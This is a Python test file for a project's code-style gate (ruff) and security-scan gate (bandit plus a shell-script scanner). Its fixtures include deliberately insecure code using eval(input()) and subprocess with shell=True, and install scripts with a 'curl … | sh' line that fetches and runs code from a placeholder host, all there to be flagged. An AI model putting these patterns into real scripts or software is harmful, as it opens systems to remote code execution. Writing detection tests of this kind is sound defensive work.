"""code_style (real ruff) and security_scan (real bandit + the project's script scanner)."""

from __future__ import annotations

import json
import sys
import textwrap
import types
from dataclasses import dataclass
from pathlib import Path

import pytest

from agent_agency_cli.gates import tools
from agent_agency_cli.gates.code_style import style_score
from agent_agency_cli.gates.result import GateContext
from agent_agency_cli.gates.runner import run_gate
from agent_agency_cli.gates.spec import GateSpec

CLEAN = '''\
"""A clean module."""


def add(a: int, b: int) -> int:
    return a + b
'''

SLOPPY = '''\
import os
import sys


def f(x):
    if x == None:
        return 1
'''

INSECURE = '''\
import subprocess


def ask():
    return eval(input("expression: "))


def shell(cmd):
    return subprocess.call(cmd, shell=True)
'''


@pytest.fixture
def ctx(tmp_path: Path) -> GateContext:
    ws = tmp_path / "ws"
    ws.mkdir()
    return GateContext(workspace=ws, workdir=ws, evidence_dir=tmp_path / "gates" / "step", timeout=60)


def _write(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text))


# ---- code_style --------------------------------------------------------------------------


def test_code_style_passes_clean_code_and_keeps_ruffs_report(ctx: GateContext) -> None:
    _write(ctx.workdir, {"pkg/__init__.py": "", "pkg/core.py": CLEAN})
    r = run_gate(GateSpec(type="code_style", select=["E", "F", "W", "I"]), ctx)
    assert r.status == "passed", r.violations
    assert r.score == 1.0 and r.violations == []
    assert r.details["files"] == 2 and r.details["violations"] == 0
    assert r.evidence == [str(ctx.evidence_dir / "ruff.json")]
    assert json.loads(Path(r.evidence[0]).read_text()) == []
    assert not (ctx.workdir / ".ruff_cache").exists()


def test_code_style_fails_with_one_line_per_violation(ctx: GateContext) -> None:
    _write(ctx.workdir, {"pkg/core.py": SLOPPY, "pkg/ok.py": CLEAN})
    r = run_gate(GateSpec(type="code_style", select=["E", "F"]), ctx)
    assert r.status == "failed" and not r.passed
    assert r.violations == [
        "pkg/core.py:1:8 F401 `os` imported but unused",
        "pkg/core.py:2:8 F401 `sys` imported but unused",
        "pkg/core.py:6:13 E711 Comparison to `None` should be `cond is None`",
    ]
    assert r.details["by_code"] == {"F401": 2, "E711": 1}
    assert r.score == pytest.approx(style_score(3, 2)) == pytest.approx(1 - 3 / 20)
    assert any("ruff check --fix" in rec for rec in r.recommendations)
    report = json.loads(Path(r.evidence[0]).read_text())
    assert {i["code"] for i in report} == {"F401", "E711"}


def test_code_style_uses_rufs_default_rules_and_the_steps_outputs(ctx: GateContext) -> None:
    _write(ctx.workdir, {"out/gen.py": "import os\n", "elsewhere/messy.py": SLOPPY, ".venv/lib/x.py": SLOPPY})
    ctx.outputs = [ctx.workdir / "out/gen.py"]
    r = run_gate(GateSpec(type="code_style"), ctx)  # ruff's own default rule set includes F401
    assert r.status == "failed"
    assert [v.split(" ")[:2] for v in r.violations] == [["out/gen.py:1:8", "F401"]]
    ctx.outputs = []
    r = run_gate(GateSpec(type="code_style", select=["F"]), ctx)  # the whole workdir, but not .venv
    assert r.details["files"] == 2 and r.details["violations"] == 3


def test_code_style_missing_paths_fail_and_no_python_passes(ctx: GateContext) -> None:
    r = run_gate(GateSpec(type="code_style", paths=["src"]), ctx)
    assert r.status == "failed" and r.violations == ["not found: src"]
    (ctx.workdir / "README.md").write_text("# hi\n")
    r = run_gate(GateSpec(type="code_style"), ctx)
    assert r.status == "passed" and r.recommendations == ["no Python files to check"]


def test_code_style_without_ruff_is_an_error_saying_how_to_install(
    ctx: GateContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    _write(ctx.workdir, {"a.py": CLEAN})
    monkeypatch.setattr(tools, "importable", lambda module: False)
    ctx.env = {"PATH": str(ctx.workdir)}
    r = run_gate(GateSpec(type="code_style"), ctx)
    assert r.status == "error"
    assert r.violations == ["ruff is not installed: pip install ruff"]


def test_code_style_timeout_is_an_error(ctx: GateContext) -> None:
    _write(ctx.workdir, {"a.py": CLEAN})
    r = run_gate(GateSpec(type="code_style", timeout=0.001), ctx)
    assert r.status == "error" and r.violations == ["ruff timed out after 0.001s"]


# ---- security_scan -----------------------------------------------------------------------


def test_security_scan_passes_clean_code(ctx: GateContext) -> None:
    _write(ctx.workdir, {"pkg/core.py": CLEAN})
    r = run_gate(GateSpec(type="security_scan"), ctx)
    assert r.status == "passed", r.violations
    assert r.score == 1.0 and r.details["python_files"] == 1 and r.details["issues"] == 0
    assert r.evidence == [str(ctx.evidence_dir / "bandit.json")]
    assert json.loads(Path(r.evidence[0]).read_text())["results"] == []


def test_security_scan_fails_on_bandit_findings_at_or_above_the_threshold(ctx: GateContext) -> None:
    _write(ctx.workdir, {"pkg/core.py": INSECURE})
    r = run_gate(GateSpec(type="security_scan", severity="medium"), ctx)
    assert r.status == "failed"
    assert r.violations == [
        "pkg/core.py:5 B307 [medium, confidence high] Use of possibly insecure function - consider using safer"
        " ast.literal_eval.",
        "pkg/core.py:9 B602 [high, confidence high] subprocess call with shell=True identified, security issue.",
    ]
    # `import subprocess` (B404, low) is below the threshold: advisory only
    assert any(rec.startswith("below the 'medium' threshold: pkg/core.py:1 B404") for rec in r.recommendations)
    assert r.details["by_severity"] == {"low": 1, "medium": 1, "high": 1}
    assert r.score == pytest.approx(1 - (0.1 + 0.25 + 0.5))


def test_security_scan_high_threshold_lets_medium_findings_pass(ctx: GateContext) -> None:
    _write(ctx.workdir, {"calc.py": 'def ask():\n    return eval(input("x: "))\n'})
    r = run_gate(GateSpec(type="security_scan", severity="high"), ctx)
    assert r.status == "passed"
    assert r.score == pytest.approx(0.75)
    assert r.recommendations[0].startswith("below the 'high' threshold: calc.py:2 B307")


@dataclass
class _Finding:
    rule_id: str
    category: str
    severity: str
    where: str
    message: str
    excerpt: str


def test_security_scan_sends_shell_scripts_to_the_projects_scanner(
    ctx: GateContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[str] = []

    def scan_text(text: str, where: str) -> list[_Finding]:
        seen.append(where)
        if "| sh" in text:
            return [_Finding("pipe-to-shell", "remote_exec", "high", where, "downloads and runs code",
                             "curl -fsSL https://x.example/i.sh | sh")]
        return []

    monkeypatch.setitem(sys.modules, "agent_agency_cli.security.scanner", types.SimpleNamespace(scan_text=scan_text))
    _write(ctx.workdir, {"scripts/install.sh": "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n",
                         "scripts/deploy": "#!/usr/bin/env bash\necho deploy\n", "notes.txt": "| sh\n"})
    r = run_gate(GateSpec(type="security_scan"), ctx)
    assert sorted(seen) == ["scripts/deploy", "scripts/install.sh"]
    assert r.status == "failed"
    assert r.violations == [
        "scripts/install.sh:2 pipe-to-shell [high] downloads and runs code: `curl -fsSL https://x.example/i.sh | sh`"
    ]
    assert r.details["scripts"] == 2 and r.details["python_files"] == 0 and r.evidence == []


def test_security_scan_real_scanner_flags_curl_pipe_sh(ctx: GateContext) -> None:
    _write(ctx.workdir, {"install.sh": "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n",
                         "clean.sh": "#!/bin/sh\nset -eu\necho hello\n"})
    bad = run_gate(GateSpec(type="security_scan", paths=["install.sh"]), ctx)
    assert bad.status == "failed"
    assert bad.violations[0].startswith("install.sh:2 pipe-to-shell [high] ")
    assert bad.details["by_rule"] == {"pipe-to-shell": 1}
    good = run_gate(GateSpec(type="security_scan", paths=["clean.sh"]), ctx)
    assert good.status == "passed", good.violations


def test_security_scan_without_bandit_is_an_error(ctx: GateContext, monkeypatch: pytest.MonkeyPatch) -> None:
    _write(ctx.workdir, {"a.py": CLEAN})
    monkeypatch.setattr(tools, "importable", lambda module: False)
    ctx.env = {"PATH": str(ctx.workdir)}
    r = run_gate(GateSpec(type="security_scan"), ctx)
    assert r.status == "error" and r.violations == ["bandit is not installed: pip install bandit"]
